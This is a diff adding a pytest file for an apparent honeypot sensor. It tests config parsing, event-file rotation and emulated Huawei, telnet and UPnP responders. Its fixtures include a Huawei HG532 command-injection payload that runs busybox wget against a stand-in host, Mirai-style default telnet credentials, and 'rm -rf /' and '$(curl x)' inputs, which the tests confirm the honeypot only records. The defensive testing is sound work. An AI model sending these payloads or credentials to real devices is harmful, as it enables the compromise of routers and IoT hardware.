@@ -1,0 +1,195 @@
+"""The sensor's config, event files and responders, in process on 127.0.0.1."""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+import json
+import socket
+from pathlib import Path
+
+import pytest
+
+from teiten.capture.events import read_events, sniff_events
+from teiten.config import load_settings
+from teiten.enrich.country import CountryEnricher
+from teiten.enrich.sources import open_country_source
+from teiten.errors import ConfigError
+from teiten.sensor.config import EXAMPLE, Limits, describe, load_config, parse_config
+from teiten.sensor.events import Event, EventWriter
+from teiten.sensor.service import Sensor
+from teiten.sensor.telnet import answer, take_line
+
+HOST = "127.0.0.1"
+
+
+def _config(extra: str = "", responders: str = "") -> str:
+    blocks = responders or '[[responder]]\nkind = "http"\nlisten = ["127.0.0.1:8080"]\n'
+    return f'[sensor]\nname = "t"\ndata = "d"\nspool = "s"\n{extra}\n{blocks}'
+
+
+def _parse(text: str, tmp_path: Path) -> object:
+    f = tmp_path / "s.toml"
+    f.write_text(text)
+    return load_config(f)
+
+
+def test_example_config_is_accepted(tmp_path: Path) -> None:
+    config = _parse(EXAMPLE, tmp_path)
+    lines = describe(config)  # type: ignore[arg-type]
+    assert "upnp-realtek: listens on 127.0.0.1:52869 (TCP)" in lines
+    assert not any("warning" in line for line in lines)
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        (_config('colour = "red"'), "sensor: unknown key 'colour'"),
+        (_config(responders='[[responder]]\nkind = "ssh"\nlisten = ["127.0.0.1:22"]\n'),
+         "unknown kind 'ssh'"),
+        (_config(responders='[[responder]]\nkind = "http"\nlisten = ["999.1.1.1:80"]\n'),
+         "is not an IP address"),
+        (_config(responders='[[responder]]\nkind = "http"\nlisten = ["127.0.0.1:70000"]\n'),
+         "port must be 1-65535"),
+        (_config(responders='[[responder]]\nkind = "http"\nlisten = ["::1:80"]\n'),
+         "expected ADDRESS:PORT"),
+        (_config(responders='[[responder]]\nkind = "http"\nlisten = ["127.0.0.1:80"]\n'
+                 '[[responder]]\nkind = "telnet"\nlisten = ["127.0.0.1:80"]\n'),
+         "127.0.0.1:80 is already used by responder 1 (http)"),
+        (_config('networks = ["300.1.2.0/24"]'), "is not a network"),
+        (_config("max_bytes = -1"), "sensor.max_bytes: a positive integer"),
+        (_config(responders='[[responder]]\nkind = "http"\nport = 80\n'), "unknown key 'port'"),
+        ('[sensor]\nname = "t"\n', "sensor.data: a non-empty string"),
+        (_config() + "[capture]\nmode = 1\n", "capture: unknown key 'mode'"),
+        ("[sensor\n", "sensor config"),
+    ],
+)  # fmt: skip
+def test_config_mistakes_are_one_line(tmp_path: Path, text: str, message: str) -> None:
+    with pytest.raises(ConfigError) as e:
+        _parse(text, tmp_path)
+    assert message in str(e.value) and "\n" not in str(e.value)
+
+
+def test_capture_table_is_a_warning(tmp_path: Path) -> None:
+    config = _parse(_config() + '[capture]\ninterface = "eth0"\n', tmp_path)
+    assert "warning: passive capture: not yet supported" in "\n".join(describe(config))  # type: ignore[arg-type]
+
+
+def test_ipv6_listen_and_limits() -> None:
+    doc = {"sensor": {"name": "t", "data": "d", "spool": "s", "idle_timeout": 2.5,
+                      "max_per_source": 4},
+           "responder": [{"kind": "telnet", "listen": ["[::1]:2323"]}]}  # fmt: skip
+    config = parse_config(doc)
+    assert str(config.responders[0].listen[0]) == "[::1]:2323"
+    assert config.limits == Limits(idle_timeout=2.5, max_per_source=4)
+
+
+def _event(n: int, client: bytes = b"x", src: str = "198.51.100.7") -> Event:
+    return Event("t", "blackhole", src, 40000 + n, "203.0.113.5", 7547, 10**18, 10**18 + 5,
+                 client, len(client), b"", "closed")  # fmt: skip
+
+
+def test_event_files_rotate_atomically(tmp_path: Path) -> None:
+    w = EventWriter(tmp_path / "events", "t")
+    assert w.rotate() is None  # nothing written: no file
+    for n in range(3):
+        w.write(_event(n))
+    assert [p.name.startswith(".") for p in (tmp_path / "events").iterdir()] == [True]
+    closed = w.rotate()
+    assert closed is not None and closed.suffix == ".jsonl"
+    assert not list((tmp_path / "events").glob(".*"))
+    assert len(closed.read_bytes().splitlines()) == 3 and sniff_events(closed)
+    big = _event(9, bytes(range(256)) * 4096)  # 1 MiB of client bytes
+    line = big.line()
+    assert len(line) < 128 << 10 and json.loads(line)["truncated"] is True
+
+
+def test_crashed_file_is_recovered(tmp_path: Path) -> None:
+    (tmp_path / ".t-1.tmp").write_bytes(_event(1).line())  # what a crash leaves
+    (tmp_path / ".t-2.tmp").write_bytes(b"")
+    recovered = EventWriter(tmp_path, "t").recover()
+    assert recovered == [tmp_path / "t-1.jsonl"] and sorted(tmp_path.iterdir()) == recovered
+
+
+def test_event_reader_counts_bad_lines(tmp_path: Path) -> None:
+    good = _event(1, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n").line()
+    own = _event(2, src="192.0.2.9").line()
+    wrong = json.loads(good)
+    wrong["client"] = "%%%"
+    f = tmp_path / "e.jsonl"
+    f.write_bytes(good + own + b"{broken\n" + json.dumps(wrong).encode() + b"\n[1]\n")
+    enricher = CountryEnricher(open_country_source("iptocc"))
+    read = read_events(f, enricher=enricher, sensor_networks=["192.0.2.0/24"], input_id=3)
+    assert read.sessions.num_rows == 1 and read.sensor == "t"
+    row = read.sessions.to_pylist()[0]
+    assert (row["app"], row["method"], row["dst_port"], row["id"]) == ("http", "GET", 7547, "s3-1")
+    assert read.counts == {"from_sensor": 1}
+    assert read.stats.skipped == {"bad_json": 1, "missing_field": 1, "not_an_event": 1}
+
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind((HOST, 0))
+        return int(s.getsockname()[1])
+
+
+async def _converse(tmp_path: Path, kind: str, steps: list[bytes]) -> tuple[bytes, list[Event]]:
+    """Send each step to a fresh responder, read until it closes; its recorded events."""
+    port = _free_port()
+    doc = {"sensor": {"name": "t", "data": str(tmp_path / "d"), "spool": str(tmp_path / "s"),
+                      "idle_timeout": 5},
+           "responder": [{"kind": kind, "listen": [f"{HOST}:{port}"]}]}  # fmt: skip
+    sensor = Sensor(parse_config(doc), load_settings(env={}), lambda line: None)
+    events: list[Event] = []
+    sensor.record = events.append  # type: ignore[method-assign]
+    await sensor.listen()
+    reader, writer = await asyncio.open_connection(HOST, port)
+    out = bytearray()
+    for step in steps:
+        writer.write(step)
+        await writer.drain()
+        await asyncio.sleep(0.05)
+    writer.write_eof()
+    while chunk := await reader.read(65536):
+        out += chunk
+    writer.close()
+    for server in sensor.servers:
+        server.close()
+    while sensor.tasks or not events:
+        await asyncio.sleep(0.01)
+    return bytes(out), events
+
+
+def test_huawei_digest_challenge_then_accept(tmp_path: Path) -> None:
+    body = (
+        b"<s:Envelope><NewStatusURL>$(/bin/busybox wget -g 198.51.100.62 -l /tmp/x)</NewStatusURL>"
+    )
+    head = f"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: {len(body)}\r\n"
+    first, _ = asyncio.run(_converse(tmp_path, "huawei-hg532", [head.encode() + b"\r\n" + body]))
+    assert first.startswith(b"HTTP/1.1 401") and b'WWW-Authenticate: Digest realm="Huawei' in first
+    auth = head + 'Authorization: Digest username="dslf-config", realm="HuaweiHomeGateway"\r\n'
+    second, events = asyncio.run(
+        _converse(tmp_path, "huawei-hg532", [auth.encode() + b"\r\n" + body])
+    )
+    assert second.startswith(b"HTTP/1.1 200 OK") and b"UpgradeResponse" in second
+    assert events[0].client.endswith(body) and events[0].end == "closed"
+
+
+def test_telnet_prompts_records_and_never_runs(tmp_path: Path) -> None:
+    options = b"\xff\xfc\x01\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0"
+    steps = [options, b"root\r\n", b"xc3511\r\n", b"admin\r\n", b"admin\r\n",
+             b"/bin/busybox ECCHI\r\n", b"echo hi; uname\r\n"]  # fmt: skip
+    out, events = asyncio.run(_converse(tmp_path, "telnet", steps))
+    assert out.count(b"login: ") == 2 and b"Password: " in out and b"Login incorrect" in out
+    assert b"ECCHI: applet not found" in out and b"hi\r\nLinux\r\n" in out
+    assert events[0].client == b"".join(steps)
+    line = json.loads(events[0].line())
+    assert base64.b64decode(line["server"]) == out
+
+
+def test_telnet_lines_and_answers() -> None:
+    buf = bytearray(b"\xff\xfb\x1fad\xff\xfa\x1f\x00\x0a\xff\xf0min\r\nrest")
+    assert take_line(buf, 100) == b"admin" and bytes(buf) == b"\nrest"
+    assert take_line(bytearray(b"no end"), 100) is None
+    assert answer("rm -rf /; reboot") == b""  # canned: nothing runs, the text is not parsed
+    assert answer("$(curl x)") == b"-sh: $(curl: not found\r\n"
